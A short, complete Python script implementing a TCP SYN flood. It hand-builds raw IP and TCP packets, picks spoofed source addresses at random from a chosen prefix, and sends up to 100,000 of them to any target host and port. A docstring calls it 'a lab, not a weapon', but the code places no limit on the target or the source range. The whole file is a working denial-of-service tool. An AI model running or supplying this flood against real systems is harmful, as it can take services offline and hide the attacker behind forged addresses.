"""A flood of SYNs, bounded: TCP's first packet many times over, and never its third.

    python3 syn-flood.py FROM TO PORT COUNT

FROM is an address, or a prefix of which each packet takes another one (198.18.0.0/15).
"""

import ipaddress
import random
import socket
import struct
import sys

MOST = 100_000
"""Packets; this is a lab, not a weapon."""


def checksum(data: bytes) -> int:
    """Of the Internet (RFC 1071)."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(source: bytes, to: bytes, port: int) -> bytes:
    own = random.randrange(1024, 65536)
    head = struct.pack("!HHIIBBHHH", own, port, random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = source + to + struct.pack("!HH", socket.IPPROTO_TCP, len(head))
    tcp = head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]
    size = 20 + len(tcp)  # the kernel fills in the checksum of IP itself (raw(7))
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, size, 0, 0, 64, 6, 0, source, to) + tcp


def flood(sources: ipaddress.IPv4Network, to: str, port: int, count: int) -> None:
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    target = socket.inet_aton(to)
    for _ in range(min(count, MOST)):
        source = sources[random.randrange(sources.num_addresses)].packed
        raw.sendto(syn(source, target, port), (to, 0))


if __name__ == "__main__":
    print("flooding", flush=True)
    flood(ipaddress.IPv4Network(sys.argv[1]), sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))
    print("sent", sys.argv[4])
